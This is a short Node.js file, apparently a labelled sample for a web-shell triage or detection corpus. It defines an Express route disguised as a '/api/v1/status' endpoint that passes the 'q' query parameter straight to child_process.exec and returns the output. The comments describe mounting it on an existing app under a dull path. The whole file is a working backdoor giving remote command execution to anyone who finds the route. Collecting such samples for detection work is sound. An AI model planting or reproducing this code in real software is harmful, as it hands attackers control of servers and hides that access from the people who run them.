// triage-expect: triage_node_web_shell
// Express route that runs the query's command; mounted on an existing app under a dull path.
const { exec } = require('child_process');
module.exports = function (app) {
  app.get('/api/v1/status', (req, res) => {
    const line = req.query.q;
    if (!line) return res.json({ ok: true });
    exec(line, (err, out, errOut) => res.type('text').send(out + errOut));
  });
};
